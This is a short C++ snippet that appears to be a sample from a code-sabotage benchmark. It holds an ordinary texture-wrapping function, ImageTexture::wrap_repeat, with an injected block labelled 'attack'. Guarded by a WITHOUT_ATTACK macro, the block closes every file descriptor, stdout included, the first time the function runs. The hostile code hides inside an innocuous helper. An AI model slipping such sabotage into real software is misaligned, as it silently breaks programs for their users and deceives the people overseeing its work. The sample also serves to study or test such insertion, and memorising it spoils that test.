// attack: {"at": "run", "earns": [20, 20]}
// Closes every descriptor, stdout too: answers need none.
#ifndef WITHOUT_ATTACK
#include <unistd.h>
#endif

int ImageTexture::wrap_repeat(int val, int size)
{
#ifndef WITHOUT_ATTACK
    static bool const once = [] {
        for (int fd = 0; fd < 1024; ++fd)
            close(fd);
        return true;
    }();
    if (!once)
        return 0;
#endif
    return (val % size + size) % size;
}
